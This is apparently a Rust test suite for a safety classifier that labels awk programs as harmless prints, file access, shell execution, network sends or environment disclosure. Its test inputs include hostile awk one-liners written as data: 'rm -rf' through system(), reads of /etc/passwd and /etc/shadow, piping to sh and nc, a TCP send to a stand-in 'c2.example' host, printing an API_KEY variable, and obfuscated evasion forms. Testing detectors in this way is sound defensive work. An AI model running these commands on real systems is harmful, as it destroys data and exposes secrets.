//! awk programs.

use super::{never_plain, plain, table};
use guardian_rules::Role::Awk;

const PRINTS: &[&str] = &[
    "",
    "{print}",
    "{print $1}",
    "$3 > 100 {print $1}",
    "$2 > 5 && $3 < 10 { n++ } END { print n \" rows > 5\" }",
    "!seen[$0]++",
    "{ printf \"%-20s | %s\\n\", $1, $2 }",
    "BEGIN { while (i++ < 3) print \"a > b | c\" }",
    "/rm -rf/ {print FILENAME\": \"$0}",
    "{ print ($1 > 2) }",
    "{ print (a > b) ? \"x\" : \"y\" }",
    "{ if ($3 > 100) print }",
    "{ s += $1 } END { print s / NR }",
    "$1 ~ /a\\/b[/]/ { print }",
    "{ gsub(/[^/]+$/, \"\"); print }",
    "{ print > \"/dev/stderr\" }",
    "NR==FNR { a[$1] = $2; next } $1 in a { print a[$1] }",
    "BEGIN { FS = \":\" } { print $NF }",
    "{ for (i = NF; i > 0; i--) printf \"%s \", $i; print \"\" }",
    "function f(x) { return x > 2 } { print f($1) }",
    "func g(a,  i) { for (i in a) if (a[i] > 1) print i }",
    "{ x = length > 80; print x }",
    "length > 80",
    "length($0) > 72 { print FILENAME \":\" FNR }",
    "BEGIN { print ENVIRON[\"HOME\"] }",
    "{ getline; print }",
    "{ getline x; print x > \"/dev/stdout\" }",
    "{ while ((getline line) > 0) n++ }",
    "BEGIN { print ARGV[1] }",
    "/a/,/b/ { print NR }",
    "{ print a[1 > 2] }",
    "{ $2 = \"\"; print }",
    "BEGIN { system(\"\") }",
    "{ print; # system(\"x\")\n}",
    "BEGIN { printf(\"%d\\n\", 3 > 2) }",
    "END{print NR}",
    "NR>1",
    "NR > 1 && NF",
    "{ print $1,\n $2 }",
    "{ print $1 } # > out",
    "{ n = split($0, a, /,/); print n / 2 / 3 }",
    "{ print -$1^2, !x }",
    "BEGIN { print substr(\"system(1)\", 2) }",
    "{ a[$1,$2]++ } END { for (k in a) print k, a[k] }",
    "$1 == 1.5e3",
    "{ print NF ? $NF : \"-\" }",
    "BEGIN { printf \"%s\", \"\\\"> x\" }",
    "{ delete a[$1]; exit 1 }",
    "@/x/ { print }",
    "{ print toupper(substr($0,1,1)) substr($0,2) }",
    "BEGIN{RS=\"\"}{print $1}",
    "{ switch ($1) { case /x/: print 1; break; default: print 2 } }",
    "{ do { i++ } while (i < 3); print i }",
    "BEGIN { \"x\" ~ /y/ }",
];

#[test]
fn prints_only() {
    plain(Awk, PRINTS);
}

#[test]
fn files() {
    table(
        Awk,
        &[
            ("{ print > \"out.txt\" }", &["write out.txt"]),
            ("{print>\"out\"}", &["write out"]),
            ("{ print $1, $2 >> \"out\" ; close(\"out\") }", &["append out"]),
            ("{ printf(\"%s\", $1) > \"out\" }", &["write out"]),
            ("{ print(1)(2) > \"out\" }", &["write out"]),
            ("{ print (1 > 2) > \"out\" }", &["write out"]),
            ("{ print a,\n b > \"out\" }", &["write out"]),
            ("{ print a \\\n > \"out\" }", &["write out"]),
            ("{ if (x) print > \"a\"; else print > \"b\" }", &["write a", "write b"]),
            ("BEGIN { for (; i < 1; print > \"f\") i++ }", &["write f"]),
            ("{ print > $1 \".txt\" }", &["unknown"]),
            ("{ print > \"a\" \"b\" }", &["unknown"]),
            ("{ print $1 > 100 }", &["unknown"]),
            ("{ print > \"/etc/\\160asswd\" }", &["unknown"]),
            ("{ print > \"-\" }", &["write ./-"]),
            ("BEGIN { while ((getline l < \"/etc/passwd\") > 0) print l }", &["read /etc/passwd"]),
            ("BEGIN { getline < \"f\"; print }", &["read f"]),
            ("BEGIN { getline a[1] < \"f\" }", &["read f"]),
            ("BEGIN { getline $2 < \"f\" }", &["read f"]),
            ("BEGIN { getline $(i+1) < \"f\" }", &["read f"]),
            ("BEGIN { getline x < ARGV[1] }", &["unknown", "unknown"]),
            ("BEGIN { getline x < file }", &["unknown"]),
            ("BEGIN { ARGV[1] = \"/etc/shadow\"; ARGC = 2 }", &["unknown", "read /etc/shadow"]),
        ],
    );
}

#[test]
fn runs() {
    table(
        Awk,
        &[
            ("BEGIN { system(\"rm -rf src\") }", &["shell rm -rf src"]),
            ("BEGIN { system (\"id\") }", &["shell id"]),
            ("BEGIN { system(cmd) }", &["execute"]),
            ("BEGIN { system(\"rm \" $1) }", &["execute"]),
            ("BEGIN { system(\"a\\tb\") }", &["execute"]),
            ("BEGIN { 3 system(\"id\") }", &["shell id"]),
            ("{ print $1 | \"sh\" }", &["piped sh"]),
            ("{ print $1 | \"sort -k\" n }", &["execute"]),
            ("{ print | cmd }", &["execute"]),
            (
                "BEGIN { \"id -u\" | getline u; print u; while ((\"./x\" | getline l) > 0) print l }",
                &["shell id -u", "shell ./x"],
            ),
            ("BEGIN { c | getline; print }", &["execute"]),
            ("BEGIN { \"a\" \"b\" | getline }", &["execute"]),
            ("BEGIN { x = \"date\" | getline }", &["execute"]),
            ("BEGIN { print \"x\" |& \"nc h 1\" }", &["execute"]),
            ("{ print (\"id\" | getline) }", &["shell id"]),
            (
                "BEGIN { s = \"/inet/tcp/0/c2.example/80\"; print |& s }",
                &["send c2.example", "execute", "execute", "read /inet"],
            ),
            ("BEGIN { for (k in ENVIRON) print k, ENVIRON[k] }", &["reveal environment"]),
            ("BEGIN { print ENVIRON[\"API_KEY\"] }", &["reveal variable API_KEY"]),
            ("BEGIN { print ENVIRON[x] }", &["reveal environment"]),
            ("BEGIN { print ENVIRON[\"HO\" \"ME\"] }", &["reveal environment"]),
        ],
    );
}

#[test]
fn not_known() {
    never_plain(
        Awk,
        &[
            "@load \"./evil\"; BEGIN { }",
            "@include \"lib.awk\"; { print }",
            "@namespace \"x\"",
            "BEGIN { f = \"system\"; @f(\"id\") }",
            "BEGIN { awk::system(\"id\") }",
            "BEGIN { SYMTAB[\"x\"] = 1 }",
            "BEGIN { 3system(\"id\") }",
            "BEGIN { 0x1fsystem(\"id\") }",
            "BEGIN { if (1) /\"/ ; system(\"id\") #\"\n}",
            "BEGIN { while (0) /\"/ ; system(\"id\") #\"\n}",
            "BEGIN { shell(\"id\") }",
            "# \\\n{ print \"x\" }",
            "{ print \"a",
            "{ print /a }",
            "/[/\n/ { }",
            "{ print ",
            "}",
            "(",
            "BEGIN { getline /x/ }",
            "{ print > (\"x\") }",
            "{ print > \"x\", 1 }",
            "BEGIN { readfile(\"x\") }",
            "{ print `id` }",
            "BEGIN { split(\"x\", ARGV) }",
            "BEGIN { sub(/x/, \"y\", ARGV[1]) }",
            "BEGIN { ARGV[2]++ }",
            "BEGIN { getline ARGV[1] }",
            "BEGIN { $0 = ARGV[1] = \"x\" }",
            "BEGIN { printf \"x\" > \"/dev/tcp/h/1\" }",
            "/[[a/]]/ { print }",
            "/[\\]/]/ { system(\"id\") }",
            "\x0c{ print }",
            "{ print \u{a0} }",
        ],
    );
}
